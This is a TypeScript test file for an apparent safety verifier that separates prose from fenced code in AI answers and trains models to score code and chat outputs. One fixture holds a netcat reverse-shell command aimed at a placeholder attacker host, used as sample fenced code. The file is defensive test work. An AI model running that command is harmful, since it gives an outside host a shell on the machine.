import * as assert from 'node:assert/strict';
import { seededRandom } from '../../../src/core/calibration/groups';
import { DENSE_COUNT, PROSE_FEATURE, withTextFeatures } from '../../../src/core/verifier/features';
import { FencedCodeFilter } from '../../../src/core/verifier/ngrams';
import { ProseModel, proseLogit, ProseRun } from '../../../src/core/verifier/proseModel';
import { fitJointModel, StepRow, TrainingStream } from '../../../src/core/verifier/trainStream';

const ANSWER = [
  "Sure! Here's a function:",
  '',
  '```python',
  'def f(s):',
  '    return s[::-1]',
  '```',
  '',
  'It uses `slicing`.',
  '  An indented line, ~~struck~~ and ``double`` ticks.',
  '````md',
  '```',
  'a fence inside a longer fence',
  '```',
  '````',
  '1. In a list:',
  '   ~~~bash',
  '   ls -l',
  '   ~~~',
  'The end.',
].join('\n');
const PROSE = "Sure! Here's a function:\n\n\nIt uses `slicing`.\n  An indented line, ~~struck~~ and ``double`` ticks.\n1. In a list:\nThe end.";

function filtered(parts: readonly string[]): string {
  let out = '';
  const f = new FencedCodeFilter();
  for (const p of parts) f.push(p, s => (out += s));
  return out;
}

function randomChunks(text: string, seed: number): string[] {
  const r = seededRandom(seed);
  const out: string[] = [];
  for (let i = 0; i < text.length; ) {
    const n = 1 + Math.floor(r() * 9);
    out.push(text.slice(i, i + n));
    i += n;
  }
  return out;
}

describe('verifier/prose features', () => {
  it('leaves fenced code blocks and their fence lines out of the prose, whatever the chunking', () => {
    assert.equal(filtered([ANSWER]), PROSE);
    for (const seed of [1, 2, 3, 4, 5]) assert.equal(filtered(randomChunks(ANSWER, seed)), PROSE, `seed ${seed}`);
    assert.equal(filtered([...ANSWER]), PROSE, 'one character at a time');
    assert.equal(filtered(['no code\nat all']), 'no code\nat all');
    assert.equal(filtered(['text\n```js\nunclosed code to the end']), 'text\n');
  });

  it('scores the prose only: code in a fence changes neither the logit nor the n-gram count', () => {
    const r = seededRandom(7);
    const model: ProseModel = { bits: 10, bias: 0.3, weights: Float32Array.from({ length: 1024 }, () => r() - 0.5) };
    const withCode = 'First the words.\n```bash\nnc -e /bin/sh attacker 4444\n```\nThen more words.';
    const without = 'First the words.\nThen more words.';
    assert.ok(Math.abs(proseLogit(model, withCode) - proseLogit(model, without)) < 1e-9);
    const a = new ProseRun(model);
    const b = new ProseRun(model);
    for (const c of randomChunks(withCode, 3)) a.push(c);
    b.push(without);
    assert.equal(a.ngrams, b.ngrams);
  });

  it('lets harmless-sounding prose count for safety only while no rule has fired', () => {
    const clean = withTextFeatures(new Array<number>(DENSE_COUNT).fill(0), -4, 1e6);
    assert.ok(clean[PROSE_FEATURE] < -3.9, 'no finding: the prose score as it is');
    const flagged = new Array<number>(DENSE_COUNT).fill(0);
    flagged[1] = 2.3;
    assert.equal(withTextFeatures(flagged, -4, 1e6)[PROSE_FEATURE], 0, 'a finding: reassuring prose is floored at 0');
    const suspicious = withTextFeatures([0, 2.3, 0, 0.9, 0, 0.69, 0, 0, 0], 3, 1e6)[PROSE_FEATURE];
    assert.ok(suspicious > 2.9, 'suspicious prose still adds to a finding');
  });

  it('fits one stream model for both kinds: shared rule evidence, an intercept per kind', () => {
    const row = (ruleWeight: number, prose = 0): StepRow => {
      const dense = new Array<number>(DENSE_COUNT).fill(0);
      dense[1] = ruleWeight;
      return { dense: withTextFeatures(dense, prose, 1e6), rules: ruleWeight ? [['r.x', 1]] : [] };
    };
    const r = seededRandom(11);
    const streams: TrainingStream[] = [];
    // Code: rules separate the classes; chat: only the prose score does, and no chat stream has a finding.
    for (let i = 0; i < 200; i++) {
      const unsafe = i % 2 === 0;
      streams.push({ kind: 'code', unsafe, rows: [row(unsafe ? (r() < 0.8 ? 2.3 : 0) : (r() < 0.1 ? 2.3 : 0))] });
      streams.push({ kind: 'chat', unsafe, rows: [row(0, (unsafe ? 1.5 : -1.5) + r() - 0.5)] });
    }
    const kinds = fitJointModel(streams, { minRuleStreams: 5, stepsPerStream: 4, l2: 1e-3 });
    assert.deepEqual(kinds.chat.dense.slice(1, 8), kinds.code.dense.slice(1, 8), 'rule evidence weighs the same in both kinds');
    assert.deepEqual(kinds.chat.rules, kinds.code.rules);
    assert.ok(kinds.code.dense[1] + (kinds.code.rules['r.x'] ?? 0) / 2.3 > 0.3, 'rules learned from code');
    assert.ok(kinds.chat.dense[PROSE_FEATURE] > 0.5, 'prose learned from chat');
    // So a finding in a chat answer counts although no chat training stream had one.
    const score = (kind: 'code' | 'chat', x: StepRow) => {
      const m = kinds[kind];
      let z = 0;
      for (let j = 0; j < DENSE_COUNT; j++) z += m.dense[j] * x.dense[j];
      for (const [id, v] of x.rules) z += (m.rules[id] ?? 0) * v;
      return z;
    };
    assert.ok(score('chat', row(2.3)) > score('chat', row(0)) + 1);
  });
});
